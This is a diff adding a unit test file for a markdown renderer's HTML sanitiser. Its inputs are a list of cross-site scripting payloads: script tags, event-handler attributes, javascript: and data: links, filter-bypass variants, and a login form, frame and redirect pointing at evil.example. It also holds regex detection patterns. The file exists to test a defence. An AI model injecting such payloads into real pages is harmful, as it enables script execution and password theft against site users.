@@ -1,0 +1,80 @@
+import { htmlOf, renderMarkdown } from '../../../tests/unit/markdown';
+
+const ATTACKS = {
+  'a script': '<script>alert(1)</script>',
+  'a script in a paragraph': 'Soup <script>alert(1)</script> and bread',
+  'a handler of a picture': '<img src="x.jpg" onerror="alert(1)">',
+  'a handler of a paragraph': '<p onclick="alert(1)">Soup</p>',
+  'a handler of an animation': '<details open ontoggle="alert(1)">Soup</details>',
+  'a link to a script': '[Soup](javascript:alert(1))',
+  'a link to a script as HTML': '<a href="javascript:alert(1)">Soup</a>',
+  'a link to a script in upper case': '<a href="JaVaScRiPt:alert(1)">Soup</a>',
+  'a link to a script with an entity': '<a href="javascript&colon;alert(1)">Soup</a>',
+  'a link to a document as data': '<a href="data:text/html,<script>alert(1)</script>">Soup</a>',
+  'a picture that is a script': '![Soup](javascript:alert(1))',
+  'a picture as data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  'a frame': '<iframe src="https://evil.example"></iframe>',
+  'an object': '<object data="https://evil.example/x.swf"></object>',
+  'a style': '<p style="position:fixed;inset:0">Soup</p>',
+  'a style sheet': '<style>body { display: none }</style>',
+  'a form':
+    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
+  'a field outside of a form': '<input autofocus onfocus="alert(1)">',
+  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
+  'a formula': '<math><mi xlink:href="javascript:alert(1)">Soup</mi></math>',
+  'a base for all addresses': '<base href="https://evil.example">',
+  'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  'a template': '<template><script>alert(1)</script></template>',
+  'a picture for browsers without scripts': '<noscript><img src=x onerror=alert(1)></noscript>',
+  'an id and a name that the page uses': '<p id="content">Soup</p><a name="themeEngine">Soup</a>',
+  'classes that the page uses': '<p class="fixed inset-0">Soup</p>',
+  'a comment with a script': '<!--><script>alert(1)</script>-->',
+  'a script tag with another one inside': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'the target of a link': '<a href="/pricing" target="_blank">Soup</a>',
+};
+
+const FORBIDDEN =
+  'script, style, iframe, object, embed, link, meta, base, form, button, select, textarea, svg, math, template, noscript, input, [style], [srcdoc], [name], [target], [id], [class]';
+
+test.each(Object.entries(ATTACKS))('removes %s', async (_name, markdown) => {
+  const article = await renderMarkdown(markdown);
+  expect(article.querySelectorAll(FORBIDDEN)).toHaveLength(0);
+  for (const { name, value } of [...article.querySelectorAll('*')].flatMap((each) => [
+    ...each.attributes,
+  ])) {
+    expect(name).not.toMatch(/^on/i);
+    expect(value).not.toMatch(/(?:java|vb)\s*script|^\s*data:/i);
+  }
+});
+
+test('the assertions of these tests detect an attack that isn’t removed', () => {
+  document.body.innerHTML = ATTACKS['a style'];
+  expect(document.body.querySelectorAll(FORBIDDEN)).toHaveLength(1);
+});
+
+test('keeps the text around an attack', async () => {
+  expect(await htmlOf(ATTACKS['a handler of a paragraph'])).toBe('<p>Soup</p>');
+  expect(await htmlOf(ATTACKS['a script in a paragraph'])).toBe('<p>Soup  and bread</p>');
+});
+
+test('keeps harmless HTML', async () => {
+  const html = '<p>Press <kbd>Esc</kbd>, H<sub>2</sub>O<br>and <mark>soup</mark>.</p>';
+  expect(await htmlOf(html)).toBe(html);
+});
+
+test.each([
+  'https://example.org/',
+  'http://example.org/',
+  'mailto:a@example.org',
+  '/pricing',
+  '#soup',
+])('keeps a link to %s', async (address) => {
+  const article = await renderMarkdown(`[Soup](${address})`);
+  expect(article.querySelector('a')).toHaveAttribute('href', address);
+});
+
+test('adds rel=noopener only to links to other sites', async () => {
+  const article = await renderMarkdown('[Here](/pricing), [there](https://example.org).');
+  const rels = [...article.querySelectorAll('a')].map((link) => link.getAttribute('rel'));
+  expect(rels).toEqual([null, 'noopener']);
+});
